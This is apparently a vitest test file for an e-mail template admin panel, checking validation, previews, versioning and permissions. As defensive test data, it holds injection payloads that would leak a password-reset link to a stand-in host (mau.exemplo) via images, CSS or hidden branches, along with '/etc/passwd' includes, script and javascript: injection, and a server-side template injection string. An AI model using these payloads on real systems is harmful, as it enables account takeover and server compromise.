import { idiomas } from '@zelo/contract/nucleo/enums'
import { tipoTemplateEmail } from '@zelo/contract/nucleo/enums.schema'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { renderizarModelo } from '#avisos/email/renderizar.ts'
import { lerMensagem, startSmtp } from '#platform/mail/test-smtp.ts'
import { cpfs, useTestApp } from '#test/app.ts'
import { eventually } from '#test/eventually.ts'
import { criarPessoa } from '#test/perfil.ts'
import { entrarComo } from '#test/perfil-de-teste.ts'
import { amostras } from './amostras.ts'
import { conferirModelo } from './conferir-modelo.ts'
import { modelosPadrao } from './semente.ts'
import { valoresDaAmostra, variaveisDoTipo } from './variaveis-declaradas.ts'

const correio = await startSmtp()
const test = useTestApp({ config: { smtpUrl: correio.url } })
const url = '/cpainel/templates-email'
const id = 'CONTA_RECUPERACAO_SENHA-br'
let administrador: string

beforeAll(async () => {
  administrador = await test.entrar(cpfs.administrador)
})
afterAll(() => correio.stop())

const chamar = (method: 'GET' | 'POST' | 'PUT', caminho = '', body?: unknown, token = administrador) =>
  test.chamar({ method, url: `${url}${caminho}`, token, body })
const ler = async (qual = id) => (await chamar('GET', `/${qual}`)).json()
const conteudoDe = ({ assunto, corpo_html, corpo_texto }: Record<string, string>) => ({
  assunto,
  corpo_html,
  corpo_texto,
})

async function salvar(mudancas: object, qual = id) {
  const atual = await ler(qual)
  return chamar('PUT', `/${qual}`, { ...conteudoDe(atual), versao: atual.versao, ...mudancas })
}

/** The newest e-mail that an address got, once its subject matches. */
async function recebido(para: string, assunto: RegExp) {
  return eventually(async () => {
    const lidas = await Promise.all(correio.recebidas.map(({ bruto }) => lerMensagem(bruto)))
    const achado = lidas.findLast((lida) => lida.to?.[0]?.address === para && assunto.test(lida.subject ?? ''))
    expect(achado).toBeDefined()
    return achado as NonNullable<typeof achado>
  })
}

describe('declared variables', () => {
  it.each(tipoTemplateEmail.options)('%s: every variable of the e-mail, and nothing else', (tipo) => {
    const declaradas = variaveisDoTipo(tipo, 'br', 'br').map(({ nome }) => nome)
    for (const { id: amostra } of amostras[tipo]) {
      expect([...valoresDaAmostra(tipo, 'br', amostra).keys()].toSorted()).toEqual(declaradas.toSorted())
    }
  })

  it.each(idiomas.flatMap((idioma) => tipoTemplateEmail.options.map((tipo) => [tipo, idioma] as const)))(
    'the default text of %s in %s passes the checks',
    async (tipo, idioma) => {
      expect(await conferirModelo(modelosPadrao[idioma][tipo], tipo, idioma)).toEqual({})
    },
  )
})

it('lists one e-mail per type and language, found by a word of its text', async () => {
  const lista = (await chamar('GET')).json()
  expect([lista.total, lista.proximo]).toEqual([6, null])
  for (const { assunto, assunto_exemplo } of lista.itens) {
    expect(assunto_exemplo).not.toMatch(/[{}%]/)
    expect(assunto_exemplo === assunto).toBe(!/[{}%]/.test(assunto))
  }
  const inglesas = (await chamar('GET', '?idioma=en&busca=PASSWORD')).json().itens
  expect(inglesas.map((item: { id: string }) => item.id)).toEqual(['CONTA_RECUPERACAO_SENHA-en'])
})

it('a saved template is used for the next e-mail', async () => {
  const { corpo_html } = await ler()
  const salvo = await salvar({
    assunto: 'Sua nova senha, {{ usuario.nome }}',
    corpo_html: corpo_html.replace('Criar nova senha', 'Quero outra senha'),
    corpo_texto: 'Oi, {{ usuario.nome }}. Abra {{ link }}',
  })
  expect([salvo.statusCode, salvo.json().versao, salvo.json().padrao]).toEqual([200, 2, false])
  await test.chamar({
    method: 'POST',
    url: '/conta/senhas/recuperacoes',
    body: { conta: 'helena@clinica-aurora.exemplo' },
  })
  const email = await recebido('helena@clinica-aurora.exemplo', /./)
  expect(email.subject).toBe('Sua nova senha, Helena')
  expect(email.text).toMatch(/^Oi, Helena\. Abra http\S+token=\S+\s*$/)
  expect(email.html).toContain('Quero outra senha')
})

describe('the link of an e-mail', () => {
  const html = modelosPadrao.br.CONTA_RECUPERACAO_SENHA.corpoHtml
  it.each([
    ['in the address of a picture', '<img src="https://mau.exemplo/{{ link }}">'],
    ['recoded for one', '{% capture u %}https://mau.exemplo/{{ link }}{% endcapture %}<img src="{{ u }}">'],
    ['in a style', '<p style="background:url(https://mau.exemplo/{{ link }})">x</p>'],
    ['in a style sheet', '<style>p{background:url(https://mau.exemplo/{{ link }})}</style>'],
    ['behind a link of somebody else', '<a href="https://mau.exemplo/?para={{ link }}">Criar nova senha</a>'],
    [
      'in a branch that no sample takes',
      "{% if usuario.nome == 'Ivo' %}<img src='https://mau.exemplo/{{ link }}'>{% endif %}",
    ],
    [
      'in a case that no sample takes',
      "{% case ip %}{% when '1' %}<img src='https://mau.exemplo/{{ link }}'>{% endcase %}",
    ],
    ['in a comment that Outlook reads', '<!--[if mso]><img src="https://mau.exemplo/{{ link }}"><![endif]-->'],
  ])('is refused %s', async (_, mais) => {
    const salvo = await salvar({ corpo_html: html + mais })
    expect(salvo.statusCode).toBe(422)
    expect(salvo.json().campos.corpo_html).toContain('chegaria a outros')
  })

  it('does not leave with a text that was saved before such a check: the default one goes, and the log says so', async () => {
    const guardada = await ler()
    const { email } = await criarPessoa(test, { nome: 'Ivo Prado' })
    await salvar({ assunto: 'Meu assunto' })
    await test.sql('UPDATE template_email SET corpo_html = $2 WHERE id = $1', [
      id,
      `${html}{% if usuario.nome == 'Ivo' %}<img src="https://mau.exemplo/{{ link }}">{% endif %}`,
    ])
    await test.chamar({ method: 'POST', url: '/conta/senhas/recuperacoes', body: { conta: email } })
    const recebida = await recebido(email, /^Crie uma nova senha$/)
    expect(recebida.html).not.toContain('mau.exemplo')
    expect(test.log.join('')).toContain('leaks its link')
    await salvar(conteudoDe(guardada))
  })

  it('does not leave with a template that shows the samples nothing bad', async () => {
    const link = 'https://zelo.exemplo/auth?token=Q7xSecret'
    const variaveis = { ...amostras.CONTA_RECUPERACAO_SENHA[0].variaveis, nome: 'Ivo', link }
    const escrever = (mais: string) => {
      const modelo = { ...modelosPadrao.br.CONTA_RECUPERACAO_SENHA, corpoHtml: html + mais }
      return renderizarModelo(modelo, 'CONTA_RECUPERACAO_SENHA', 'br', variaveis)
    }
    const soParaOutros = "{% if usuario.nome != 'Helena' %}<img src='https://mau.exemplo/{{ link }}'>{% endif %}"
    await expect(escrever(soParaOutros)).rejects.toThrow('leaks its link')
    const letra = "{% if link contains 'Q7x' %}<img src='https://mau.exemplo/Q7x'>{% endif %}"
    const pedaco = '<img src="https://mau.exemplo/{{ link | slice: -9, 9 | url_encode }}">'
    const { html: pronto } = await escrever(letra + pedaco)
    expect(pronto.match(/mau\.exemplo\/[^"']*/g)).toEqual([expect.not.stringMatching(/Q7x|Secret/)])
    expect(pronto).toContain(`href="${link}"`)
  })
})

describe('a text is refused on save, and the answer says what to do:', () => {
  const html = modelosPadrao.br.CONTA_RECUPERACAO_SENHA.corpoHtml
  it.each<[string, object, string, RegExp]>([
    [
      'an unknown variable',
      { assunto: 'Oi {{ usuario.nomi }}' },
      'assunto',
      /usuario\.nomi.*linha 1.*Você quis dizer {{ usuario\.nome }}/,
    ],
    [
      'a variable of another e-mail',
      { corpo_texto: 'a\n{{ link }} {{ cliente.nome }}' },
      'corpo_texto',
      /cliente\.nome.*linha 2/,
    ],
    ['a missing link', { corpo_texto: 'Sem o link' }, 'corpo_texto', /Falta {{ link }}/],
    [
      'a link that only some get',
      { corpo_texto: "{% if cadastro_repetido != '' %}{{ link }}{% endif %}" },
      'corpo_texto',
      /Falta {{ link }}.*Pediu outra senha/,
    ],
    ['a link behind a comment', { corpo_texto: '{% comment %}{{ link }}{% endcomment %}' }, 'corpo_texto', /Falta/],
    ['an open brace', { assunto: 'Oi {{ usuario.nome' }, 'assunto', /linha 1.*não foi fechado/],
    ['an unknown filter', { assunto: 'Oi {{ usuario.nome | exec }}' }, 'assunto', /filtro «exec» não existe/],
    ['a file', { assunto: "{% include '/etc/passwd' %}" }, 'assunto', /não pode ser lido/],
    ['an empty subject', { assunto: "{% if ip == '' %}x{% endif %}" }, 'assunto', /vazio/],
    ['a script', { corpo_html: `${html}<script>alert(1)</script>` }, 'corpo_html', /<script>/],
    ['a handler', { corpo_html: `${html}<b onclick="x()">a</b>` }, 'corpo_html', /onclick=/],
    ['a link that runs', { corpo_html: `${html}<a href=" javascript:alert(1)">a</a>` }, 'corpo_html', /javascript:/],
    [
      'a form',
      { corpo_html: `${html}<form action="https://x.exemplo"><input name="senha"></form>` },
      'corpo_html',
      /<form>/,
    ],
    ['code of the server', { assunto: "{{ usuario.constructor.constructor('return process')() }}" }, 'assunto', /não/],
  ])('%s', async (_, mudancas, campo, dito) => {
    const antes = await ler()
    const resposta = await salvar(mudancas)
    expect([resposta.statusCode, Object.keys(resposta.json().campos)]).toEqual([422, [campo]])
    expect(resposta.json().campos[campo]).toMatch(dito)
    expect(await ler()).toEqual(antes)
  })
})

it('previews a draft with sample data, and shows what saving would refuse', async () => {
  const previa = await chamar('POST', `/AGENDAMENTO_AGENTEIA-br/previa`, {
    assunto: '{{ situacao }}: {{ servico.nome }}',
    corpo_html: '<b>{{ cliente.nome }}</b>',
    corpo_texto: '{{ nada',
    amostra: 'cancelado',
  })
  expect(previa.json()).toMatchObject({
    assunto: 'Cancelado: Avaliação',
    html: '<b>Helena Prado</b>',
    texto: null,
    problemas: { corpo_html: expect.stringContaining('Falta'), corpo_texto: expect.stringContaining('fechado') },
  })
})

it('a test e-mail goes only to the caller, and changes nothing', async () => {
  const antes = await ler('CONTA_ATIVACAO-en')
  const resposta = await chamar('POST', '/CONTA_ATIVACAO-en/testar', { ...conteudoDe(antes), assunto: 'Only a try' })
  expect(resposta.json()).toEqual({ para: 'otavio@zelo.exemplo' })
  expect((await recebido('otavio@zelo.exemplo', /Only a try/)).subject).toBe('[Test] Only a try')
  expect(await ler('CONTA_ATIVACAO-en')).toEqual(antes)
})

it('keeps every text: restoring the first one makes a new version, and the trail names who did it', async () => {
  const qual = 'CONTA_ATIVACAO-br'
  const original = await ler(qual)
  await salvar({ assunto: 'Outro assunto' }, qual)
  test.clock.advance(1000)
  const restaurado = await chamar('POST', `/${qual}/restaurar`, { versao: 2 })
  expect(restaurado.json()).toMatchObject({ ...conteudoDe(original), padrao: true, versao: 3 })
  const versoes = (await chamar('GET', `/${qual}/versoes`)).json().itens
  expect(versoes.map((uma: Record<string, unknown>) => [uma.numero, uma.autor !== null, uma.assunto])).toEqual([
    [3, true, original.assunto],
    [2, true, 'Outro assunto'],
    [1, false, original.assunto],
  ])
  const [ultima] = (await chamar('GET', `/${qual}/historico`)).json().itens
  expect(ultima).toMatchObject({ antes: { assunto: 'Outro assunto' }, depois: { assunto: original.assunto } })
  expect((await chamar('POST', `/${qual}/restaurar`, { versao: 2 })).statusCode).toBe(409)
})

it('a viewer reads it and cannot change it', async () => {
  const leitor = await entrarComo(test, { '/cpainel/template-email': ['pode_visualizar'] })
  const atual = await ler()
  expect((await chamar('GET', `/${id}`, undefined, leitor)).statusCode).toBe(200)
  for (const resposta of [
    await chamar('PUT', `/${id}`, { ...conteudoDe(atual), versao: atual.versao }, leitor),
    await chamar('POST', `/${id}/restaurar`, { versao: atual.versao }, leitor),
    await chamar('POST', `/${id}/testar`, conteudoDe(atual), leitor),
  ]) {
    expect(resposta.statusCode).toBe(403)
  }
})

it('the frame of the preview runs only its own script, has no origin, and can be embedded only by the panel', async () => {
  const { headers, body } = await test.chamar({ url: '/templates-email/moldura' })
  const politica = String(headers['content-security-policy'])
  expect(politica).toMatch(
    /default-src 'none'; script-src 'sha256-\S+'; .*frame-ancestors 'self'; sandbox allow-scripts$/,
  )
  expect(body).toContain('source !== parent')
})

it('the list can be filtered by type and exported', async () => {
  const ids = (await chamar('GET', '?tipo=CONTA_ATIVACAO')).json().itens.map((um: { id: string }) => um.id)
  expect(ids).toEqual(['CONTA_ATIVACAO-br', 'CONTA_ATIVACAO-en'])
  const linhas = (await chamar('GET', '/exportar?tipo=CONTA_ATIVACAO&idioma=en')).body.split('\r\n')
  expect(linhas[0]).toContain('Tipo;Idioma;Assunto')
  expect(linhas[1]).toMatch(/^CONTA_ATIVACAO;en;/)
  expect(linhas).toHaveLength(3)
})
